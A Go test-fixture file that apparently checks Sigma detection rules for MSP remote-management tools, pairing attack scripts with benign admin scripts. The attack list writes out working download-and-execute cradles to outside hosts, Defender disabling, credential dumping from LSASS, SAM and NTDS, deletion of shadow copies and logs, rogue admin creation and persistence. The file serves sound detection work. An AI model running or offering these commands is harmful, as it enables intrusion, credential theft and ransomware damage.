package sigmahq

// script is a script as an MSP's tool pushes it: the interpreter the
// tool names and the command or script body it runs.
type script struct {
	name, interpreter, command string
}

// attackScripts are what an intruder with a technician's console pushes:
// the techniques of the ransomware and espionage cases on MSPs (Kaseya
// VSA 2021, APT10 Cloud Hopper, the ScreenConnect intrusions), written as
// an operator types them, not as the simulator does.
var attackScripts = []script{
	{"iwr download and run", "powershell", `Invoke-WebRequest -Uri "http://185.220.101.47/upd/svchost.exe" -OutFile "$env:TEMP\svchost.exe"; Start-Process "$env:TEMP\svchost.exe"`},
	{"bypass iwr from a domain", "cmd", `powershell.exe -ExecutionPolicy Bypass -Command "Invoke-WebRequest -Uri 'https://cdn-update.example.net/kb/patch.exe' -OutFile $env:TEMP\patch.exe; & $env:TEMP\patch.exe"`},
	{"bypass iwr from cmd", "cmd", `powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "iwr http://45.9.148.3/a.ps1 -OutFile C:\ProgramData\a.ps1; C:\ProgramData\a.ps1"`},
	{"webclient iex cradle", "powershell", `IEX (New-Object Net.WebClient).DownloadString('http://45.9.148.3/stage.ps1')`},
	{"iex iwr cradle", "powershell", `iex (iwr -UseBasicParsing 'https://paste.example.net/raw/k2Jd8')`},
	{"encoded command", "cmd", `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA`},
	{"certutil urlcache", "cmd", `certutil.exe -urlcache -split -f http://185.220.101.47/p.exe C:\Users\Public\p.exe && C:\Users\Public\p.exe`},
	{"certutil decode", "cmd", `certutil -decode C:\ProgramData\agent.crt C:\ProgramData\agent.exe & C:\ProgramData\agent.exe`},
	{"bitsadmin transfer", "cmd", `bitsadmin /transfer upd /download /priority high http://185.220.101.47/p.exe C:\Users\Public\p.exe & start C:\Users\Public\p.exe`},
	{"start-bitstransfer", "powershell", `Start-BitsTransfer -Source http://45.9.148.3/s.exe -Destination C:\Users\Public\s.exe; & C:\Users\Public\s.exe`},
	{"mshta url", "cmd", `mshta http://45.9.148.3/update.hta`},
	{"regsvr32 scriptlet", "cmd", `regsvr32 /s /n /u /i:http://45.9.148.3/a.sct scrobj.dll`},
	{"rundll32 url", "cmd", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://45.9.148.3/a.sct")`},
	{"curl download", "cmd", `curl -s -o C:\Users\Public\r.exe http://45.9.148.3/r.exe & C:\Users\Public\r.exe`},
	{"defender realtime off", "powershell", `Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true`},
	{"defender exclusion drive", "powershell", `Add-MpPreference -ExclusionPath 'C:\' -Force`},
	{"defender service stop", "cmd", `sc stop WinDefend & sc config WinDefend start= disabled`},
	{"lsass minidump", "cmd", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\debug.bin full`},
	{"sam hive save", "cmd", `reg save HKLM\SAM C:\Windows\Temp\sam.save & reg save HKLM\SYSTEM C:\Windows\Temp\system.save`},
	{"ntds ifm", "cmd", `ntdsutil "ac i ntds" "ifm" "create full c:\perflogs\x" q q`},
	{"shadow copies deleted", "cmd", `vssadmin.exe delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled No`},
	{"backup catalog deleted", "cmd", `wbadmin delete catalog -quiet`},
	{"event logs cleared", "cmd", `wevtutil cl Security & wevtutil cl System`},
	{"rogue local admin", "cmd", `net user supp0rt P@ssw0rd2024! /add & net localgroup administrators supp0rt /add`},
	{"recon", "cmd", `whoami /all & nltest /domain_trusts & net group "domain admins" /domain`},
	{"hidden scheduled task", "cmd", `schtasks /create /sc minute /mo 30 /tn "MicrosoftEdgeUpdateTaskCore" /tr "powershell -w hidden -nop -c iex(iwr http://45.9.148.3/b)" /ru SYSTEM /f`},
	{"second rmm quietly", "cmd", `C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent`},
	{"renamed certutil", "cmd", `copy /Y C:\Windows\System32\certutil.exe C:\Windows\cert.exe & C:\Windows\cert.exe -decode c:\kworking\agent.crt c:\kworking\agent.exe`},
	{"self-deleting dropper", "cmd", `c:\kworking\agent.exe & ping 127.0.0.1 -n 6 > nul & del /q /f c:\kworking\agent.exe`},
	{"rar staging", "cmd", `C:\ProgramData\rar.exe a -r -hpInfected1 C:\ProgramData\out.rar C:\Users\*\Documents\*`},
}

// benignScripts are the routine scripts MSPs push every day, written the
// ways real RMM script libraries write them; a rule the pack enables must
// stay quiet on all of them.
var benignScripts = []script{
	{"run library script", "cmd", `powershell.exe -ExecutionPolicy Bypass -NoProfile -File "C:\ProgramData\NinjaRMMAgent\scripting\ninjascript_58812.ps1"`},
	{"disk space", "powershell", `Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID, @{n='FreeGB';e={[math]::Round($_.FreeSpace/1GB,1)}}`},
	{"vendor agent install", "powershell", `Invoke-WebRequest -Uri "https://download.screenconnect.com/24.1.1/ScreenConnect.ClientSetup.msi" -OutFile "$env:TEMP\sc.msi"; Start-Process msiexec.exe -ArgumentList "/i $env:TEMP\sc.msi /qn" -Wait`},
	{"restart windows update", "cmd", `net stop wuauserv & net stop bits & rd /s /q C:\Windows\SoftwareDistribution & net start bits & net start wuauserv`},
	{"flush dns", "cmd", `ipconfig /flushdns & ipconfig /registerdns`},
	{"group policy", "cmd", `gpupdate /force`},
	{"repair image", "cmd", `DISM /Online /Cleanup-Image /RestoreHealth & sfc /scannow`},
	{"chocolatey", "cmd", `choco upgrade all -y --no-progress`},
	{"winget", "powershell", `winget upgrade --all --silent --accept-package-agreements --accept-source-agreements`},
	{"restart spooler", "powershell", `Restart-Service -Name Spooler -Force`},
	{"clean temp", "powershell", `Remove-Item -Path "$env:windir\Temp\*" -Recurse -Force -ErrorAction SilentlyContinue`},
	{"hotfixes", "powershell", `Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 10`},
	{"installed software", "cmd", `reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s | findstr DisplayName`},
	{"wmic products", "cmd", `wmic product get name,version`},
	{"reboot", "cmd", `shutdown /r /t 300 /c "Scheduled maintenance reboot by your IT provider"`},
	{"execution policy", "powershell", `Set-ExecutionPolicy RemoteSigned -Scope LocalMachine -Force`},
	{"defender scan", "powershell", `Update-MpSignature; Start-MpScan -ScanType QuickScan`},
	{"bitlocker status", "cmd", `manage-bde -status C:`},
	{"firewall on", "cmd", `netsh advfirewall set allprofiles state on`},
	{"time sync", "cmd", `w32tm /resync /force`},
	{"hash file", "cmd", `certutil -hashfile "C:\Program Files\LOB\app.exe" SHA256`},
	{"scheduled tasks", "cmd", `schtasks /query /fo LIST /v`},
	{"who runs", "cmd", `whoami`},
	{"dc check", "cmd", `nltest /dsgetdc:corp.example.local`},
	{"password reset", "cmd", `net user jsmith Winter2026!Reset /domain`},
	{"local admins audit", "powershell", `Get-LocalGroupMember -Group Administrators | Select-Object Name, PrincipalSource`},
	{"lob exclusion", "powershell", `Add-MpPreference -ExclusionPath "C:\Program Files\Sage\Sage 50"`},
	{"agent msi", "cmd", `msiexec /i "C:\Windows\Temp\AgentSetup.msi" /qn /norestart ACCOUNTID=88412`},
	{"chrome update", "cmd", `"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler`},
	{"office update", "cmd", `"C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeC2RClient.exe" /update user updatepromptuser=false forceappshutdown=true displaylevel=false`},
	{"clear print queue", "cmd", `net stop spooler & del /q /f /s "%systemroot%\System32\spool\PRINTERS\*" & net start spooler`},
	{"event log check", "powershell", `Get-WinEvent -LogName System -MaxEvents 50 | Where-Object Level -le 2`},
	{"uptime", "cmd", `systeminfo | find "System Boot Time"`},
	{"bits download of update", "powershell", `Start-BitsTransfer -Source "https://download.microsoft.com/download/8/b/d/8bd7f7d1/windows10.0-kb5034441-x64.msu" -Destination "C:\Windows\Temp\kb5034441.msu"; wusa.exe C:\Windows\Temp\kb5034441.msu /quiet /norestart`},
	{"encoded one-liner from rmm", "cmd", `powershell.exe -NoProfile -NonInteractive -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAVwBpAG4ARABlAGYAZQBuAGQA`},
	{"vss for backup", "cmd", `vssadmin list shadows`},
	{"log collect", "powershell", `Compress-Archive -Path C:\ProgramData\LOB\logs\* -DestinationPath C:\Windows\Temp\logs.zip -Force`},
	{"bash on linux", "bash", `curl -fsSL https://repo.example.com/install.sh | sudo bash`},
}
